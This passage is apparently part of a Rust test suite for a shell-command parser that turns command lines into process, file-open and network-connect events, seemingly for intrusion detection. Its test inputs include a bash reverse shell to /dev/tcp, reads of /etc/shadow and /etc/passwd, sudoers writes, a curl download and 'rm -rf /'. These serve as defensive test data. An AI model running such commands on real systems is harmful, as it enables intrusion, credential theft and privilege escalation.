                        exec: 0,
                        shell: None
                    },
                    "/dev/null".to_string(),
                    true
                ),
                (Opener::Shell(None), "~/.bashrc".to_string(), true),
                (
                    Opener::Child {
                        exec: 1,
                        shell: None
                    },
                    "in.txt".to_string(),
                    false
                ),
            ]
        );
        assert_eq!(
            execs("cat /etc/passwd>/tmp/p"),
            [(None, "cat /etc/passwd".to_string())]
        );
        // A reverse shell's redirection is the connect, not a word.
        let s = expand("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        assert_eq!(
            s,
            [
                Step::Open {
                    by: Opener::Child {
                        exec: 0,
                        shell: None
                    },
                    path: "/dev/tcp/10.0.0.1/4444".into(),
                    write: true
                },
                Step::Exec {
                    parent: None,
                    replaces: None,
                    wrapper: false,
                    as_root: false,
                    argv: vec!["bash".into(), "-i".into()]
                }
            ]
        );
        // A here document's body is data.
        assert_eq!(
            execs("cat <<EOF > /tmp/x.sh\nrm -rf /\nEOF\nchmod +x /tmp/x.sh"),
            [
                (None, "cat".to_string()),
                (None, "chmod +x /tmp/x.sh".to_string())
            ]
        );
    }

    #[test]
    fn wrappers_start_what_they_wrap_under_the_right_parent() {
        assert_eq!(
            execs("sudo -u root sh -c 'echo x > /etc/sudoers.d/a; id'"),
            [
                (
                    None,
                    "sudo -u root sh -c echo x > /etc/sudoers.d/a; id".to_string()
                ),
                (Some(0), "sh -c echo x > /etc/sudoers.d/a; id".to_string()),
                (Some(1), "id".to_string()),
            ]
        );
        assert_eq!(
            opens("sudo sh -c 'echo x > /etc/sudoers.d/a'"),
            [(Opener::Shell(Some(1)), "/etc/sudoers.d/a".to_string(), true)]
        );
        let s = expand("nohup env X=1 ./run.sh &");
        assert_eq!(
            s[2],
            Step::Exec {
                parent: None,
                replaces: Some(Some(1)),
                wrapper: false,
                as_root: false,
                argv: vec!["./run.sh".into()]
            }
        );
        assert_eq!(
            execs("su postgres -c 'psql -c \"select 1\"'"),
            [
                (None, "su postgres -c psql -c \"select 1\"".to_string()),
                (Some(0), "bash -c psql -c \"select 1\"".to_string()),
                (Some(1), "psql -c select 1".to_string()),
            ]
        );
        // bash runs a `-c` of one command in its own process (dash forks).
        assert!(matches!(
            &expand("su postgres -c 'psql -c \"select 1\"'")[2],
            Step::Exec {
                replaces: Some(Some(1)),
                ..
            }
        ));
        // `watch` runs its command through `sh -c`.
        assert_eq!(
            execs("watch -n1 'reset; exec /bin/sh'"),
            [
                (None, "watch -n1 reset; exec /bin/sh".to_string()),
                (Some(0), "sh -c reset; exec /bin/sh".to_string()),
                (Some(1), "reset".to_string()),
                (Some(1), "/bin/sh".to_string()),
            ]
        );
        assert_eq!(
            execs("echo `whoami` $(cat /etc/hostname)"),
            [
                (None, "whoami".to_string()),
                (None, "cat /etc/hostname".to_string())
            ]
        );
    }

    #[test]
    fn events_carry_the_pids_and_names_the_kernel_would_report() {
        let sh = Shell {
            pid: 500,
            comm: "sh",
            ppid: 400,
            parent_comm: "php-fpm8.2",
            uid: 33,
            cwd: "/var/www/app",
            home: "/var/www",
        };
        let mut next = 1000;
        let evs = events(
            "echo x >~/.x; curl -s http://203.0.113.9:8080/a >/tmp/a 2>/dev/null\nsudo sh -c 'cat /etc/shadow'",
            &sh,
            || {
                next += 1;
                next
            },
        );
        let got: Vec<String> = evs
            .iter()
            .map(|e| {
                format!(
                    "{} {}<{} {}/{} {}{}",
                    e.kind.as_deref().unwrap(),
                    e.comm.as_deref().unwrap(),
                    e.parent_comm.as_deref().unwrap(),
                    e.pid.unwrap(),
                    e.ppid.unwrap(),
                    e.path.clone().or(e.remote_ip.clone()).unwrap_or_default(),
                    e.argv.as_ref().map(|a| a.join(" ")).unwrap_or_default(),
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                // The builtin's redirection: the shell itself.
                "open sh<php-fpm8.2 500/400 /var/www/.x",
                // curl's redirection: its forked child, still named sh.
                "open sh<sh 1001/500 /tmp/a",
                "exec curl<sh 1001/500 curl -s http://203.0.113.9:8080/a",
                "connect curl<sh 1001/500 203.0.113.9",
                "exec sudo<sh 1002/500 sudo sh -c cat /etc/shadow",
                "exec sh<sudo 1003/1002 sh -c cat /etc/shadow",
                "exec cat<sh 1004/1003 cat /etc/shadow",
                "open cat<sh 1004/1003 /etc/shadow",
            ]
        );
        assert_eq!(evs[3].remote_port, Some(8080));
        assert_eq!(evs[1].flags, Some(0o1101));
        assert_eq!(evs[7].flags, Some(0));
        // sudo's command runs as root.
        assert_eq!(evs[4].uid, Some(33));
        assert_eq!((evs[5].uid, evs[6].uid), (Some(0), Some(0)));

        // A wrapper's arguments are its command's: one connect, by the
        // process that makes it; `exec` and bash's one-command `-c` keep
        // the process.
        let mut next = 2000;
        let evs = events(
            "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\nexec /bin/sh -i",
            &sh,
            || {
                next += 1;
                next
            },
        );
        let got: Vec<String> = evs
            .iter()
            .map(|e| {
                format!(
                    "{} {}<{} {}/{}",
                    e.kind.as_deref().unwrap(),
                    e.comm.as_deref().unwrap(),
                    e.parent_comm.as_deref().unwrap(),
                    e.pid.unwrap(),
                    e.ppid.unwrap(),
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                "exec bash<sh 2001/500",
                "connect bash<sh 2001/500",
                "exec bash<sh 2001/500",
                "exec sh<php-fpm8.2 500/400",
            ]
        );
    }

    #[test]
    fn hostile_lines_stay_bounded() {
        let bomb = "$(".repeat(500) + &")".repeat(500);
        assert!(expand(&bomb).len() <= MAX_EXECS * 2);
        let many = "a;".repeat(10_000);
        assert_eq!(execs(&many).len(), MAX_EXECS);
        // Deep wrappers, long keyword runs, many redirections and shell
        // escapes stay bounded too.
        assert!(execs(&"exec ".repeat(100_000)).len() <= MAX_EXECS);
        assert!(execs(&("if ".repeat(100_000) + "id")).len() <= 1);
        assert!(execs(&(">a ".repeat(20_000) + "id")).len() <= 1);
        assert_eq!(
            execs(&("vi\n".to_string() + &"!x\n".repeat(10_000))).len(),
            MAX_EXECS
        );
        assert!(execs(&"sudo ".repeat(10_000)).len() <= MAX_EXECS);
        for s in [
            "'",
            "\"",
            "$(",
            "`",
            "<<",
            ">",
            "\\",
            "2>&",
            "case x in",
            "for",
        ] {
            expand(s);
        }
    }
}
